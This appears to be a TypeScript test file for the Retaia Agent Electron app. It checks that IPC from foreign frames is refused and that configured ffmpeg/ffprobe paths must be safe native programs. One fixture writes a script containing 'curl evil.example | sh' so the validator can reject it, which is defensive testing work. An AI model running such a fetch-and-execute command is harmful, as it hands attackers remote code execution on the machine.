// Attacks on the desktop main process through IPC, run against the real startDesktopApp wiring
// with the fake Electron seam: messages from foreign frames (an iframe, another window, the
// window navigated to another page) are refused before anything reaches the daemon, and a
// renderer cannot make the daemon execute a script or a program others can swap.
import { afterEach, test } from 'node:test';
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chmod, copyFile, mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { startDesktopApp, type DesktopApp } from '../src/main/desktop-app.js';
import { execPathProblem } from '../src/main/exec-path-check.js';
import { invokeChannel } from '../src/shared/bridge-channels.js';
import { createFakeElectron } from './support/fake-electron.js';
import { FakeDaemonControl } from './support/fake-daemon-control.js';
import { waitFor } from './support/wait-for.js';
import { makeTempDir } from '@retaia/protocol/testing/temp-dir.js';

const running: DesktopApp[] = [];
afterEach(async () => {
  for (const app of running.splice(0)) await app.quit();
});

async function launch() {
  const fake = createFakeElectron();
  const daemon = new FakeDaemonControl();
  const logs: string[] = [];
  const app = await startDesktopApp(fake.api, {
    distDir: '/app/dist',
    assetsDir: '/app/assets',
    powerPollMs: 60_000,
    linkRetryMs: 20,
    log: (msg) => void logs.push(msg),
    launcher: { connect: async () => daemon, spawn: async () => undefined },
  });
  running.push(app);
  await waitFor('first status', () => app.status() !== undefined);
  return { fake, daemon, logs, win: fake.state.windows[0]! };
}

const PAGE = pathToFileURL('/app/dist/renderer/index.html').href;

test('attack: IPC from a foreign frame, another window or a navigated page is refused', async () => {
  const { fake, daemon, logs, win } = await launch();
  const own = { sender: win.webContents, senderFrame: { url: `${PAGE}#control`, parent: null } };
  const foreign = [
    { ...own, senderFrame: { url: PAGE, parent: { url: PAGE } } }, // an iframe
    { ...own, senderFrame: { url: 'https://evil.example/', parent: null } }, // navigated away
    { ...own, senderFrame: { url: 'file:///tmp/evil.html', parent: null } }, // another file
    { ...own, senderFrame: null }, // frame already gone
    { sender: { id: win.webContents.id + 100 }, senderFrame: own.senderFrame }, // other window
    {}, // no sender at all
  ];
  const callsBefore = daemon.calls.length;
  for (const event of foreign) {
    for (const method of ['pause', 'saveConfig', 'copyToClipboard'] as const) {
      await assert.rejects(
        Promise.resolve().then(() =>
          fake.invokeFrom(event, invokeChannel(method), method === 'saveConfig' ? {} : 'x'),
        ),
        /refused .*did not come from the Retaia Agent window/,
        `${method} from ${JSON.stringify(event.senderFrame)}`,
      );
    }
  }
  assert.equal(daemon.calls.length, callsBefore, 'nothing reached the daemon');
  assert.equal(fake.state.clipboard, '', 'nothing reached the clipboard');
  assert.ok(logs.includes('refused an IPC call from a foreign frame'));
  // The app's own page still works.
  assert.equal(
    ((await fake.invokeFrom(own, invokeChannel('pause'))) as { state: string }).state,
    'paused',
  );
});

async function scratch(mode = 0o700): Promise<string> {
  const dir = makeTempDir('exec-path-');
  await chmod(dir, mode);
  return dir;
}

test('attack: the renderer cannot set ffmpeg_path/ffprobe_path to a script or a swappable program', async () => {
  const { fake, daemon } = await launch();
  await fake.invoke(invokeChannel('getConfig'));
  const trueBin = execFileSync('which', ['true'], { encoding: 'utf8' }).trim();

  const safeDir = await scratch();
  const script = join(safeDir, 'ffmpeg');
  await writeFile(script, '#!/bin/sh\ncurl evil.example | sh\n', { mode: 0o755 });
  const openDir = await scratch(0o777); // world-writable, no sticky bit
  const inOpenDir = join(openDir, 'ffmpeg');
  await copyFile(trueBin, inOpenDir);
  await chmod(inOpenDir, 0o755);
  const writable = join(safeDir, 'ffprobe-writable');
  await copyFile(trueBin, writable);
  await chmod(writable, 0o757);
  const good = join(safeDir, 'ffprobe');
  await copyFile(trueBin, good);
  await chmod(good, 0o755);
  await mkdir(join(safeDir, 'a-dir'));

  const cases: [string, string, RegExp][] = [
    ['ffmpeg_path', script, /is a script/],
    ['ffmpeg_path', inOpenDir, /which any user can modify/],
    ['ffprobe_path', writable, /can be modified by other users/],
    ['ffprobe_path', join(safeDir, 'a-dir'), /not a regular file/],
    ['ffprobe_path', join(safeDir, 'missing'), /does not exist/],
  ];
  for (const [field, path, why] of cases) {
    const config = { ...daemon.config, [field]: path };
    for (const method of ['validateConfig', 'saveConfig'] as const) {
      const r = (await fake.invoke(invokeChannel(method), config)) as {
        ok: boolean;
        problems: { field: string; message: string }[];
      };
      assert.equal(r.ok, false, `${method} ${path}`);
      const p = r.problems.find((x) => x.field === field);
      assert.match(p?.message ?? '', why, JSON.stringify(r.problems));
    }
    assert.notEqual(daemon.config[field], path, 'never saved');
  }
  assert.ok(!daemon.calls.some((c) => c.startsWith('saveConfig')), 'the daemon never saw them');

  // A real program in a private folder is accepted and reaches the daemon.
  const saved = (await fake.invoke(invokeChannel('saveConfig'), {
    ...daemon.config,
    ffprobe_path: good,
  })) as { ok: boolean };
  assert.equal(saved.ok, true);
  assert.equal(daemon.config.ffprobe_path, good);
});

test('exec path rules: relative, NUL, text files, system binaries', async () => {
  assert.match((await execPathProblem('ffmpeg')) ?? '', /absolute/);
  assert.match((await execPathProblem('/usr/bin/ff\0mpeg')) ?? '', /NUL/);
  const dir = await scratch();
  const text = join(dir, 'ffmpeg.txt');
  await writeFile(text, 'hello', { mode: 0o755 });
  assert.match((await execPathProblem(text)) ?? '', /not a native program/);
  const sh = execFileSync('which', ['sh'], { encoding: 'utf8' }).trim();
  assert.equal(await execPathProblem(sh), undefined, `${sh} is a root-owned system program`);
});

test('core_ca_file from the window must be a readable PEM before it is saved', async () => {
  const { fake, daemon } = await launch();
  const dir = await scratch();
  const notPem = join(dir, 'nas.pem');
  await writeFile(notPem, 'not a certificate');
  for (const [path, why] of [
    [join(dir, 'missing.pem'), /cannot be read \(ENOENT\)/],
    [notPem, /holds no valid PEM certificate/],
  ] as const) {
    const r = (await fake.invoke(invokeChannel('saveConfig'), {
      ...daemon.config,
      core_ca_file: path,
    })) as { ok: boolean; problems: { field: string; message: string }[] };
    assert.equal(r.ok, false);
    assert.match(r.problems.find((p) => p.field === 'core_ca_file')?.message ?? '', why);
    assert.equal(daemon.config.core_ca_file, undefined, 'never saved');
  }
});
